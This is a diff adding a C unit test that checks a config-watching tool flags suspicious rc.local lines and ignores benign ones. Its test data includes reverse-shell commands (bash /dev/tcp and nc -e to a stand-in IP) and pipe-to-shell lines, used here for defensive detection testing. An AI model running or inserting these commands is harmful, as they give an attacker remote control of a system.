@@ -299,6 +299,48 @@ static void test_settings(void **state)
 	assert_int_equal(check_sayings(settings, ARRAY_SIZE(settings)), 0);
 }
 
+/* Which commands are loud. */
+static void test_shady(void **state)
+{
+	static const char *const shady[] = {
+		"echo aWQ= | sh",
+		"x|bash",
+		"x | /bin/sh -s",
+		"(x |sh)",
+		"x|sort|python3 -",
+		"bash -i >& /dev/tcp/1.2.3.4/9",
+		"/usr/bin/nc -e /bin/sh 1.2.3.4 9",
+		"/usr/lib/.x/y",
+	};
+	static const char *const fine[] = {
+		"x | sha256sum",
+		"rsync -a a b",
+		"ssh -i key host",
+		"cd ../../x",
+		"x || true",
+		"x |",
+		"|",
+		"chmod 444 x",
+		"x | shuf",
+		"x|/",
+		"eval \"$(dircolors)\"",
+		"[ -f ~/.bash_aliases ]",
+	};
+	char line[200];
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(shady); i++) {
+		snprintf(line, sizeof(line), "#!/bin/sh\n%s\n", shady[i]);
+		if (!strings("etc/rc.local", line, "#!/bin/sh\n").loud)
+			fail_msg("%s", shady[i]);
+	}
+	for (size_t i = 0; i < ARRAY_SIZE(fine); i++) {
+		snprintf(line, sizeof(line), "#!/bin/sh\n%s\n", fine[i]);
+		if (strings("etc/rc.local", line, "#!/bin/sh\n").loud)
+			fail_msg("%s", fine[i]);
+	}
+}
+
 /* No part of a password's hash is ever shown, whatever the line looks like. */
 static void test_no_hash(void **state)
 {
@@ -477,6 +519,7 @@ int main(void)
 		cmocka_unit_test(test_keys),
 		cmocka_unit_test(test_starts),
 		cmocka_unit_test(test_settings),
+		cmocka_unit_test(test_shady),
 		cmocka_unit_test(test_no_hash),
 		cmocka_unit_test(test_escaped),
 		cmocka_unit_test(test_huge),
